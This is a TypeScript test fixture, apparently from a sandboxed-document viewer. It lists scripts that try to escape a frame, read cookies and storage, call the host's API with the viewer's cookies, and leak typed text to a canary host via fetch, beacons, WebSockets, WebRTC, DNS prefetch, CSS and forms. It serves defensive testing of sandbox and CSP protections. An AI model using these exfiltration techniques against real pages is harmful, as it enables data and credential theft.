/**
 * The attack table (docs/security.md): attempts of a document, as scripts that run in a document. Each is measured twice by
 * `measure.ts`: where nothing protects, and in our frame.
 *
 * A script is the body of an async function. It has `at(id)`, an address at the canary; `api(id)`, an address of the host's own API;
 * `port`, its own TCP or UDP canary; `name(id)`, a host name whose look-up is recorded; `RUN`; and `add(html)`, which puts elements into
 * the document. It returns a text that begins with `leaked` if it could read what it should not.
 */

import type { Attack, Row } from './attack.ts';

const put = (id: string, html: string, more: Partial<Attack> = {}): Attack => ({
  id,
  sign: 'request',
  script: `add(${JSON.stringify(html)}.replaceAll('AT',at('${id}')))`,
  ...more,
});
const request = (id: string, script: string, more: Partial<Attack> = {}): Attack => ({
  id,
  sign: 'request',
  script,
  ...more,
});
const result = (id: string, script: string, more: Partial<Attack> = {}): Attack => ({
  id,
  sign: 'result',
  script,
  ...more,
});
const leaves = (id: string, script: string, more: Partial<Attack> = {}): Attack => ({
  id,
  sign: 'request',
  script,
  goes: 'leaves',
  // Only the page's own `frame-src` stops it.
  isOpenStatic: true,
  ...more,
});
const takes = (id: string, script: string, more: Partial<Attack> = {}): Attack => ({
  id,
  sign: 'request',
  script,
  goes: 'takes',
  ...more,
});
const link = (id: string, attributes: string, more: Partial<Attack> = {}): Attack =>
  request(
    id,
    `document.head.append(Object.assign(document.createElement('link'),{${attributes},href:at('${id}')}))`,
    more,
  );
const style = (id: string, css: string): Attack =>
  put(id, `<style>${css}</style><p class="z-${id}" style="display:list-item">z</p>`);
const form = (method: string, action: string, target: string): string =>
  `const f=document.createElement('form');f.method='${method}';f.action=${action};f.target=${target};f.innerHTML='<input name=d value=typed>';document.body.append(f);f.submit()`;
const peer = (servers: string): string =>
  `const p=new RTCPeerConnection({iceServers:[${servers}]});p.createDataChannel('x');await p.setLocalDescription(await p.createOffer())`;

export const rows: readonly Row[] = [
  {
    what: 'read cookies, storage, databases, caches, the page around it, another document beside it',
    by: 'opaque origin',
    attacks: [
      result('cookie', `return document.cookie.includes('secret=word')?'leaked':'nothing'`),
      result('local-storage', `localStorage.x='1';return 'leaked'`),
      result('session-storage', `sessionStorage.x='1';return 'leaked'`),
      result(
        'database',
        `return new Promise((y,n)=>{const r=indexedDB.open('x');r.onsuccess=()=>y('leaked');r.onerror=()=>n(r.error)})`,
      ),
      result('caches', `await caches.open('x');return 'leaked'`),
      result('parent', `return 'leaked '+parent.document.title`),
      result('frame-element', `return 'leaked '+frameElement.localName`),
      result(
        'sibling',
        `for(let n=0;n<parent.length;n++)if(parent[n]!==window)return 'leaked '+parent[n].document.body.innerText;return 'alone'`,
      ),
    ],
  },
  {
    what: "the application's service workers, its channels",
    by: 'opaque origin',
    attacks: [
      result('service-worker', `return 'leaked '+(await parent.navigator.serviceWorker.getRegistrations()).length`),
      { id: 'channel', sign: 'channel', script: `new BroadcastChannel('ready').postMessage(RUN)` },
    ],
  },
  {
    what: "call the host's API with the viewer's cookies: read, delete, delete by an image",
    by: '`connect-src`, `img-src`; SameSite=Strict',
    attacks: [
      request('api-read', `await fetch(api('api-read'),{credentials:'include'})`),
      request('api-delete', `await fetch(api('api-delete'),{method:'POST',mode:'no-cors',credentials:'include'})`),
      request('api-image', `new Image().src=api('api-image')`),
    ],
  },
  {
    what: "navigate to the host's delete address",
    by: "the page's `frame-src`; anti-forgery; Sec-Fetch",
    attacks: [leaves('go-api', `location.href=api('go-api')`)],
  },
  {
    what: 'send a form, to the API and elsewhere, in its own frame, in a frame of its own and over the page',
    by: 'no `allow-forms`, `form-action`',
    attacks: [
      leaves('form-api', form('post', `api('form-api')`, `'_self'`), { isOpenStatic: false }),
      leaves('form-get', form('get', `at('form-get')`, `'_self'`), { isOpenStatic: false }),
      request(
        'form-frame',
        `const g=document.createElement('iframe');g.name='g';document.body.append(g);${form('post', `at('form-frame')`, `'g'`)}`,
      ),
      takes('form-top', form('get', `at('form-top')`, `'_top'`)),
    ],
  },
  {
    what: 'navigate the page away: at once, on a press, by a link over the page; open a window',
    by: 'no `allow-top-navigation`, no `allow-popups`',
    attacks: [
      takes('top', `top.location=at('top')`),
      takes('top-pressed', `top.location=at('top-pressed')`, { isPressed: true }),
      takes('top-api', `top.location=api('top-api')`, { isPressed: true }),
      takes(
        'top-link',
        `add('<a target=_top>x</a>');const a=document.body.lastChild.firstChild;a.href=at('top-link');a.click()`,
        { isPressed: true },
      ),
      takes('window', `window.open(at('window'))`, { isPressed: true }),
    ],
  },
  {
    what: 'navigate to another address with the typed text: `location`, `replace`, refresh, a link, a window of its own name, a `data:` page',
    by: "the page's `frame-src`",
    attacks: [
      leaves('location', `location.href=at('location')`),
      leaves('replace', `location.replace(at('replace'))`),
      leaves('open-self', `open(at('open-self'),'_self')`),
      leaves(
        'refresh',
        `const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+at('refresh');document.head.append(m)`,
      ),
      leaves(
        'link-click',
        `add('<a>x</a>');const a=document.body.lastChild.firstChild;a.href=at('link-click');a.click()`,
        { isOpenStatic: false },
      ),
      leaves('data-page', `location.href='data:text/html,'+encodeURIComponent('<img src="'+at('data-page')+'">')`, {
        isOpenStatic: false,
      }),
    ],
  },
  {
    what: 'move the application back in its history',
    by: 'sandbox; in Firefox only the question about unsaved changes protects the user',
    attacks: [
      {
        id: 'history-back',
        sign: 'address',
        goes: 'takes',
        firefox: 'open',
        script: `history.back();await pause(1000)`,
      },
    ],
  },
  {
    what: 'fetch, XHR, beacon, keepalive, WebSocket, EventSource, WebTransport, a ping',
    by: "`connect-src 'none'`",
    attacks: [
      request('fetch', `await fetch(at('fetch'),{mode:'no-cors'})`),
      request('xhr', `const r=new XMLHttpRequest();r.open('GET',at('xhr'));r.send()`),
      request('beacon', `navigator.sendBeacon(at('beacon'),'d')`),
      request('keepalive', `await fetch(at('keepalive'),{mode:'no-cors',keepalive:true})`),
      { id: 'socket', sign: 'tcp', script: `new WebSocket('ws://127.0.0.1:'+port+'/')` },
      request('events', `new EventSource(at('events'))`),
      { id: 'transport', sign: 'udp', script: `await new WebTransport('https://127.0.0.1:'+port+'/').ready` },
      leaves(
        'ping',
        `add('<a>x</a>');const a=document.body.lastChild.firstChild;a.ping=at('ping');a.href=A+'/control';a.click()`,
        {
          isOpenStatic: false,
          firefox: 'unknown',
        },
      ),
    ],
  },
  {
    what: 'img, srcset, picture, svg image, feImage, poster, video, audio, track, table background, input image, base href',
    by: '`default-src`, `img-src`, `media-src`, `base-uri`',
    attacks: [
      put('img', '<img src="AT">'),
      put('srcset', '<img srcset="AT 1x">'),
      put('picture', '<picture><source srcset="AT"><img></picture>'),
      put('svg-image', '<svg width=9 height=9><image href="AT" width=9 height=9 /></svg>'),
      put(
        'fe-image',
        '<svg width=9 height=9><filter id=fe><feImage href="AT"/></filter><rect width=9 height=9 filter="url(#fe)"/></svg>',
      ),
      put('poster', '<video poster="AT"></video>'),
      put('video', '<video src="AT" preload=auto></video>'),
      put('audio', '<audio src="AT" preload=auto></audio>'),
      put('table', '<table background="AT"><tr><td>x</table>'),
      put('input-image', '<input type=image src="AT">'),
      request(
        'base',
        `const b=document.createElement('base');b.href=at('base')+'/';document.head.append(b);new Image().src='relative.png';await new Promise((y)=>setTimeout(y,50));b.remove()`,
      ),
    ],
  },
  {
    what: 'CSS url(), @import, font, cursor, list-style, border-image, link stylesheet',
    by: '`style-src`, `font-src`, `img-src`',
    attacks: [
      style('css-url', `.z-css-url{background:url(AT)}`),
      style('css-import', `@import url(AT);`),
      style('css-font', `@font-face{font-family:zf;src:url(AT)}.z-css-font{font-family:zf}`),
      style('css-cursor', `.z-css-cursor{cursor:url(AT),auto}`),
      style('css-list', `.z-css-list{list-style:url(AT)}`),
      style('css-border', `.z-css-border{border:1px solid;border-image:url(AT) 1}`),
      link('stylesheet', `rel:'stylesheet'`),
    ],
  },
  {
    what: 'link preload, prefetch, modulepreload; script, module, import(), worker, shared worker',
    by: '`default-src`, `script-src`, `worker-src`',
    attacks: [
      link('preload', `rel:'preload',as:'script'`),
      link('prefetch', `rel:'prefetch'`, { firefox: 'unknown' }),
      link('modulepreload', `rel:'modulepreload'`),
      request('script', `document.head.append(Object.assign(document.createElement('script'),{src:at('script')}))`),
      request(
        'module',
        `document.head.append(Object.assign(document.createElement('script'),{type:'module',src:at('module')}))`,
      ),
      request('import', `await import(at('import'))`),
      request(
        'worker',
        `new Worker(URL.createObjectURL(new Blob(['importScripts("'+at('worker')+'")'],{type:'text/javascript'})))`,
      ),
      request(
        'shared-worker',
        `new SharedWorker(URL.createObjectURL(new Blob(['importScripts("'+at('shared-worker')+'")'],{type:'text/javascript'})))`,
      ),
    ],
  },
  {
    what: 'a frame in the frame: iframe, object, embed; an image, a script and a request of a `srcdoc` grandchild',
    by: '`frame-src`, `object-src`, the inherited policy (a `srcdoc` grandchild does run script)',
    attacks: [
      put('iframe', '<iframe src="AT"></iframe>'),
      put('object', '<object data="AT"></object>'),
      put('embed', '<embed src="AT">'),
      put('child-image', `<iframe srcdoc="<img src='AT'>"></iframe>`),
      put('child-script', `<iframe srcdoc="<script src='AT'></script>"></iframe>`),
      put('child-fetch', `<iframe srcdoc="<script>fetch('AT',{mode:'no-cors'})</script>"></iframe>`),
    ],
  },
  {
    what: 'WebRTC: a STUN packet, the host name of a STUN and of a TURN server',
    by: '`Connection-Allowlist` alone',
    attacks: [
      {
        id: 'stun',
        sign: 'udp',
        script: peer(`{urls:'stun:127.0.0.1:'+port}`),
        isOpenStatic: true,
        firefox: 'open',
      },
      {
        id: 'stun-name',
        sign: 'name',
        script: peer(`{urls:'stun:'+name('stun-name')}`),
        isOpenStatic: true,
        firefox: 'open',
      },
      {
        id: 'turn-name',
        sign: 'name',
        script: peer(`{urls:'turn:'+name('turn-name'),username:'typed',credential:'x'}`),
        isOpenStatic: true,
        firefox: 'open',
      },
    ],
  },
  {
    what: '`<link rel=preconnect>`: a connection; `<link rel=dns-prefetch>`: a look-up',
    by: '`Connection-Allowlist` alone',
    attacks: [
      {
        id: 'preconnect',
        sign: 'tcp',
        script: `document.head.append(Object.assign(document.createElement('link'),{rel:'preconnect',href:'http://127.0.0.1:'+port}))`,
        isOpenStatic: true,
        firefox: 'unknown',
      },
      {
        id: 'dns-prefetch',
        sign: 'name',
        script: `document.head.append(Object.assign(document.createElement('link'),{rel:'dns-prefetch',href:'//'+name('dns-prefetch')}))`,
        isOpenStatic: true,
      },
    ],
  },
  {
    what: 'alert, confirm, prompt, print',
    by: 'no `allow-modals`',
    attacks: [
      { id: 'alert', sign: 'dialog', script: `alert(RUN+' alert')` },
      { id: 'confirm', sign: 'dialog', script: `confirm(RUN+' confirm')` },
      { id: 'prompt', sign: 'dialog', script: `prompt(RUN+' prompt')` },
      result('print', `let t='nothing';addEventListener('beforeprint',()=>t='leaked');print();return t`, {
        goes: 'takes',
        firefox: 'unknown',
      }),
    ],
  },
  {
    what: 'camera, microphone, location, notifications, if the user has allowed them to the application',
    by: '`Permissions-Policy`, opaque origin',
    attacks: [
      result('camera', `await navigator.mediaDevices.getUserMedia({video:true});return 'leaked'`),
      result('microphone', `await navigator.mediaDevices.getUserMedia({audio:true});return 'leaked'`),
      result(
        'place',
        `return new Promise((y,n)=>navigator.geolocation.getCurrentPosition(()=>y('leaked'),()=>y('refused')))`,
      ),
      result('notification', `return Notification.permission==='granted'?'leaked':Notification.permission`, {
        firefox: 'unknown',
      }),
    ],
  },
  {
    what: 'on a press: the whole screen, a download, reading the clipboard, writing it',
    by: 'sandbox, `Permissions-Policy`',
    attacks: [
      result('screen', `await document.documentElement.requestFullscreen();return 'leaked'`, { isPressed: true }),
      request(
        'download',
        `add('<a download=x>x</a>');const a=document.body.lastChild.firstChild;a.href=api('download');a.click()`,
        { isPressed: true },
      ),
      result('clipboard-read', `await navigator.clipboard.readText();return 'leaked'`, {
        isPressed: true,
        firefox: 'unknown',
      }),
      result('clipboard-write', `await navigator.clipboard.writeText(RUN);return 'leaked'`, {
        isPressed: true,
        firefox: 'open',
      }),
    ],
  },
  {
    what: 'on a press: writing the clipboard as the old `execCommand` does',
    by: 'nothing: a user who pressed in a document may find its words in the clipboard; it cannot be read',
    attacks: [
      result(
        'clipboard-old',
        `add('<textarea>taken</textarea>');document.body.lastChild.firstChild.select();return document.execCommand('copy')?'leaked':'refused'`,
        { isPressed: true, isOpen: true, firefox: 'open' },
      ),
    ],
  },
];

/** Attacks of all rows. */
export const attacks: readonly Attack[] = rows.flatMap((row) => row.attacks);
